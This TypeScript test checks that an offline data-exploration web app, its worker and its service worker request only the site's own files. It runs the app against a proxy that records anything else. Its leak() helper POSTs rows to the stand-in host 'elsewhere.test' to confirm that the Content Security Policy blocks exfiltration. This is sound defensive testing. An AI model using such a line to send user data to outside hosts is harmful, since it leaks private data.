// Nothing leaves: all that the page, its worker and its service worker ask for are files of the site (row 94 of the
// catalogue). Counted where requests arrive, at the site's own server and at a proxy that gets every other one.
import { createServer } from 'node:http';
import type { Worker } from 'playwright-core';
import { expect, test } from 'vitest';
import { siteFiles } from '../../build/offline.mjs';
import { built, openSite } from './harness/index.ts';
import { choose, ended, named, until } from './support.ts';

/** Where Chromium goes by itself, page or no page: for its updates, and to have form fields recognised. */
const ERRANDS = /^(http:\/\/)?[\w-]+\.(google|googleapis)\.com[:/]/;

/** A proxy that answers nothing and remembers what it was asked for. */
async function openProxy(): Promise<{ port: number; asked: string[]; close(): void }> {
  const asked: string[] = [];
  const remember = (url = ''): void => {
    if (!ERRANDS.test(url)) asked.push(url);
  };
  const server = createServer(({ url }, response) => {
    remember(url);
    response.writeHead(502).end();
  });
  server.on('connect', ({ url }, socket) => {
    remember(url);
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const at = server.address();
  return {
    port: typeof at === 'object' && at !== null ? at.port : 0,
    asked,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** Tries to send something elsewhere, and says which rule was in the way. */
function leak(): Promise<string> {
  return new Promise((done) => {
    globalThis.addEventListener('securitypolicyviolation', (event) =>
      done((event as SecurityPolicyViolationEvent).effectiveDirective),
    );
    const sent = fetch('http://elsewhere.test/rows', { method: 'POST', body: '1,2,3', mode: 'no-cors' });
    /* Whoever forbids it tells so at once; what is not forbidden ends at the proxy. */
    sent.then(
      () => done('answered'),
      () => setTimeout(() => done('no rule'), 1000),
    );
  });
}

test('row 94: page, worker and service worker ask for files of the site, and can ask nobody else', async () => {
  const { files } = siteFiles(built('site'));
  const proxy = await openProxy();
  const arrived: { method: string; url: string; body: boolean }[] = [];
  const site = await openSite({
    args: (url) => [
      `--proxy-server=http://127.0.0.1:${proxy.port}`,
      `--proxy-bypass-list=<-loopback>;${new URL(url).host}`,
    ],
    context: { serviceWorkers: 'allow' },
    allow: /Content.Security.Policy|Refused to|violates|connect-src/i,
    onRequest: ({ method = '', url = '', headers }) =>
      arrived.push({ method, url, body: 'content-length' in headers || 'transfer-encoding' in headers }),
    before: (page) =>
      page.addInitScript(() => {
        const launchQueue = {
          setConsumer: (launch: unknown) => Object.assign(globalThis, { launch }),
        };
        Object.defineProperty(globalThis, 'launchQueue', { value: launchQueue });
      }),
  });
  const { page, context } = site;
  try {
    await named.pause(page).waitFor({ timeout: 60_000 });
    await until('the site is kept', () =>
      page.evaluate(
        async () => (await navigator.serviceWorker.getRegistration())?.active?.state === 'activated',
      ),
    );

    // A file that the system hands over, trained on, selected from, trained on again and exported.
    await page.evaluate(() => {
      const rows = Array.from({ length: 60 }, (_, i) =>
        [i % 7, (i * i) % 11, i % 3, Math.sin(i), i % 5].join(),
      );
      const file = new File([`a,b,c,d,secret\n${rows.join('\n')}\n`], 'private.csv');
      const { launch } = globalThis as unknown as { launch(params: object): void };
      launch({ files: [{ getFile: () => Promise.resolve(file) }] });
    });
    await page.getByText('60 rows, 5 columns', { exact: true }).waitFor();
    await ended(page);
    await named.map(page).getByRole('application').focus();
    await page.keyboard.press('Control+a');
    const selection = page.getByRole('region', { name: 'Selection', exact: true });
    await selection.getByText(/^60 of 60 selected/).waitFor();
    await page.getByRole('button', { name: 'Retrain on selection' }).click();
    await page.getByRole('button', { name: 'Return to 1', exact: true }).waitFor();
    await ended(page);
    await page.getByRole('button', { name: 'Export', exact: true }).click();
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'All rows (CSV)' }).click();
    expect((await download).url()).toMatch(/^blob:/);
    await choose(page, 'iris');

    // What the page says it has asked for is what has arrived.
    await page.getByRole('button', { name: 'See for yourself' }).first().click();
    const list = page
      .getByRole('dialog', { name: 'Your data stays here' })
      .getByRole('region', { name: 'Requests' });
    await list.waitFor();
    const listed = await list.locator('tbody th').allInnerTexts();
    expect(listed).toEqual(expect.arrayContaining(['index.html', 'data/catalog.json', 'data/iris.csv.gz']));
    for (const file of listed) expect(Object.keys(files), file).toContain(file);

    expect(arrived.length).toBeGreaterThan(Object.keys(files).length / 2);
    for (const { method, url, body } of arrived) {
      const path = url === '/' ? 'index.html' : url.slice(1);
      expect({ url, method, body }).toEqual({ url, method: 'GET', body: false });
      expect([...Object.keys(files), 'sw.js'], url).toContain(path);
    }
    expect(proxy.asked, 'what was asked of anybody else').toEqual([]);
    site.assertClean();

    // And were something hostile in one of them, its rules would hold it back.
    const [worker] = page.workers();
    const [service] = context.serviceWorkers();
    if (!worker || !service) throw new Error('The page has no worker, or no service worker.');
    expect(await page.evaluate(leak), 'from the page').toBe('connect-src');
    expect(await worker.evaluate(leak), 'from the worker').toBe('connect-src');
    expect(await (service as Worker).evaluate(leak), 'from the service worker').toBe('connect-src');
    expect(proxy.asked).toEqual([]);
  } finally {
    await site.close();
    proxy.close();
  }
});
